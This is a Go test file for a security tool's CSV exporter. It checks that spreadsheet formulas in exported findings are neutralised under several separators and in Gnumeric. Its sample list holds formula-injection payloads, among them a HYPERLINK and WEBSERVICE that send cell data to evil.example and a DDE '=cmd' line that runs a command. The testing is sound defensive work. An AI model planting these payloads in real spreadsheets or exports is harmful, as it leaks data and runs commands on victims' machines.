package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/qianshao/qianshao"
	"github.com/qianshao/qianshao/desk"
	"github.com/qianshao/qianshao/locales"
)

// formulas are texts that one spreadsheet or another would evaluate.
func formulas() []string {
	list := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1,1)", " =1+1", "\u3000=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1＋1", "－1+1", "＠SUM(1,1)", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1",
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
		"a\";=1+1;\"b", "a;=1+1", "a,=1+1", "a\t=1+1", "a|=1+1", "a\r\n=1+1", "\"=1+1", "\"\"\"=1+1", "a; =1+1", "%0A=1+1",
	}
	for _, f := range list[:4] {
		list = append(list, f+strings.Repeat(" ", 40)+"\n"+f)
	}
	return list
}

// csvOf is the CSV of findings with these texts wherever a page, a rule or an operator can put one.
func csvOf(t *testing.T, texts []string) []byte {
	t.Helper()
	var b bytes.Buffer
	out, err := newTable(&b, locales.English)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range texts {
		row := hostileRow(s)
		if err := out.row(&row); err != nil {
			t.Fatal(err)
		}
	}
	if err := out.end(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// hostileRow is the row of a finding with a text in every place.
func hostileRow(s string) Row {
	record := qianshao.FindingRecord{
		Finding: qianshao.Finding{
			ID: s, URL: s, Rule: s, Title: s, Category: qianshao.Category(s), Level: qianshao.LevelHigh, Score: 70, Authorisation: s,
			Evidence:   []qianshao.Evidence{{Text: s, Before: s, After: s, Line: 1, Column: 2, Region: qianshao.RegionKind(s), Hidden: qianshao.Hiding(s), View: qianshao.View(s)}},
			Indicators: []qianshao.Indicator{{Kind: qianshao.IndicatorKind(s), Value: s}, {Kind: qianshao.IndicatorURL, Value: s}},
		},
		Host: s, PageTitle: s, FirstSeen: time.UnixMilli(1), LastSeen: time.UnixMilli(2),
	}
	return newRow(&record, &desk.Standing{Verdict: qianshao.Verdict(s), Reason: qianshao.Reason(s)}, []string{s}, []string{s}, time.UTC)
}

// TestInert: whatever separator the reader's program uses, no cell begins with a formula.
func TestInert(t *testing.T) {
	t.Parallel()
	content := strings.TrimPrefix(string(csvOf(t, formulas())), byteOrderMark)
	for _, separator := range ",;|" {
		r := csv.NewReader(strings.NewReader(content))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, true, -1
		rows, err := r.ReadAll()
		if err != nil || len(rows) < len(formulas()) {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if trimmed := strings.TrimLeft(cell, "\" \u00a0\u3000\u200b\ufeff"); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@\t\r") || strings.HasPrefix(trimmed, "＝") || strings.HasPrefix(trimmed, "＋") || strings.HasPrefix(trimmed, "－") || strings.HasPrefix(trimmed, "＠") {
					t.Errorf("separated by %q, the cell %q is a formula", separator, cell)
				}
			}
		}
	}
	for s, want := range map[string]string{"a-b": "a-b", "注册送 88": "注册送 88", "": "", "x=1": "x=1", "-": "'-"} {
		if got := inert(s); got != want {
			t.Errorf("%q becomes %q, want %q", s, got, want)
		}
	}
}

// TestSpreadsheetRunsNothing opens the table in a spreadsheet, and reads the types of its cells. The same
// texts, unescaped, show that it does evaluate formulas.
func TestSpreadsheetRunsNothing(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("ssconvert"); err != nil {
		t.Skip("there is no ssconvert, of the spreadsheet Gnumeric, here; .ci/run installs it")
	}
	run := func(name string, content []byte, least int) (formulas int) {
		in, out := filepath.Join(t.TempDir(), name+".csv"), filepath.Join(t.TempDir(), name+".xml")
		if err := os.WriteFile(in, content, 0o600); err != nil {
			t.Fatal(err)
		}
		// In the exporter's XML only values have a ValueType: a cell without one is a formula.
		cmd := exec.Command("ssconvert", "--import-type=Gnumeric_stf:stf_csvtab", "--export-type=Gnumeric_XmlIO:sax:0", in, out)
		if output, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, output)
		}
		sheet, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		cells := strings.Split(string(sheet), "<gnm:Cell ")[1:]
		if len(cells) < least {
			t.Fatalf("%s has %d cells: %.500s", name, len(cells), sheet)
		}
		for _, cell := range cells {
			if head, _, _ := strings.Cut(cell, ">"); !strings.Contains(head, "ValueType=") {
				formulas++
				t.Logf("%s: %.120s", name, cell)
			}
		}
		return formulas
	}
	var careless strings.Builder
	for _, s := range formulas() {
		fmt.Fprintf(&careless, "x,\"%s\"\r\n", strings.ReplaceAll(s, `"`, `""`))
	}
	if n := run("careless", []byte(careless.String()), len(formulas())); n == 0 {
		t.Fatal("the spreadsheet runs no formula even in an unescaped table: the test shows nothing")
	}
	if n := run("ours", csvOf(t, formulas()), 15*len(formulas())); n != 0 {
		t.Errorf("the spreadsheet runs %d formulas of ours", n)
	}
}
